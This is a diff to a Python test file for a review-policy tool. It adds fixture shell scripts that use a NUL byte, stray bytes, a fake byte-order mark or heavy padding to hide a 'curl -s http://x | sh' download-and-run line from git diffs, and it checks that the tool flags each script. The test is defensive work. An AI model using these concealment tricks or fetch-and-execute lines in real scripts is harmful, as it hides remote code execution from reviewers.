@@ -1132,6 +1132,12 @@ def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
     (root / "payments" / "fast.so").write_bytes(b"\x7fELF")
     # One NUL in a script: "Binary files differ" and "+0 -0" to the lead, yet bash runs every line after it.
     (root / "docs" / "deploy.sh").write_bytes(b"#!/bin/bash\necho deploying\n# notes\0\ncurl -s http://x | sh\n")
+    # Nor hidden by one odd byte beside it (a Latin-1 é, a control byte), a byte-order mark in front that is no
+    # UTF-16, or a size past what is read whole: each was unflagged, "- -" in the diff.
+    (root / "docs" / "setup.sh").write_bytes(b"#!/bin/bash\n# caf\xe9\0\ncurl -s http://x | sh\n")
+    (root / "docs" / "ctl.sh").write_bytes(b"#!/bin/bash\n# \x01 note\0\ncurl -s http://x | sh\n")
+    (root / "docs" / "bom.sh").write_bytes(b"\xff\xfeecho RAN\n# \0\ncurl -s http://x | sh\n")
+    (root / "docs" / "big.sh").write_bytes(b"#!/bin/bash\n# \0\ncurl -s http://x | sh\n" + b"# pad\n" * 200_000)
     (root / "docs" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\x00")  # binary: no text
     (root / "docs" / "wide.txt").write_bytes("\ufeffhello".encode("utf-16-le"))  # UTF-16's NULs: text, not hidden
     hostile = commit("docs: tidy", f"160000,{base},docs/vendor")
@@ -1146,8 +1152,9 @@ def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
                                   "compiled code Python may run in place of its source: "
                                   "payments/__pycache__/refunds.cpython-311.pyc",
                                   "compiled code Python may run in place of its source: payments/fast.so",
-                                  "docs/deploy.sh is text with a NUL byte in it, which git shows as a binary file: "
-                                  "none of it is in the diff"}
+                                  *(f"docs/{name} is text with a NUL byte in it, which git shows as a binary file: "
+                                    "none of it is in the diff"
+                                    for name in ("deploy.sh", "setup.sh", "ctl.sh", "bom.sh", "big.sh"))}
     judged = evaluate(policy, facts)
     assert (judged.outcome, judged.risk) == ("require", "high")
     unusual = judged.applied[-1]
